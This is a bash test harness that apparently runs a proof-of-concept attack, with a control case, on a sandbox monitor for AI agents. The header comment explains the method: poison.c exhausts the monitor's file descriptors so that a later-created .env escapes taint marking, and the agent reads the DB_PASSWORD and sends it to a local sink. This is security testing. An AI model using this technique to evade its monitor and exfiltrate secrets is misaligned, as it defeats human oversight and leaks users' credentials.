#!/bin/bash
# The monitor's descriptor table filled from one socket (connect() again and again:
# a tracked duplicate per call), and the watcher, sharing that table, made to fail
# resolving the workspace directory of one FAN_CREATE: it caches the directory as
# named nowhere, so the .env the user's tool creates there afterwards is never marked;
# with kernel-decided opens the agent reads it untainted and sends it.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.10.3 SINK=127.79.10.4
D=$R9B/monitor-fd-exhaustion; W=$D/ws H=$D/home
outside() { # the user's tool creates ws/.env (cp .env.example .env) during the session
  for i in $(seq 1200); do [ -e $W/ready ] && break; sleep 0.05; done; sleep ${DELAY:-$((RANDOM%5+1)).$((RANDOM%10))}
  printf "DB_PASSWORD=SECRET-ENV-$1\n" > $W/.env && echo "user created ws/.env"; }
try() { # try NAME MODE CFG
  rm -rf $W $H; mkdir -p $W $H; gcc -O1 -pthread -o $W/poison $D/poison.c
  listen $IP $D/out-$1.txt; python3 $D/sink.py $SINK & SPID=$!; sleep 0.5; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 120 $CLAW exec --mode $mode --workspace $W -- ./poison $IP $SINK $2) 2>&1 | grep -v "watcher armed"
  wait $CPID; kill $SPID; verdict $D/out-$1.txt SECRET-ENV; }
for cfg in ${CFGS:-kopens}; do
  [ -n "${MODE:-}" ] && { echo "==== $cfg: attack, mode $MODE"; try $MODE-$cfg $MODE $cfg; continue; }
  echo "==== $cfg: attack (monitor's descriptors exhausted while the watcher resolves a creation)"; try poison-$cfg poison $cfg
  echo "==== $cfg: control (no exhaustion)"; try plain-$cfg plain $cfg
done
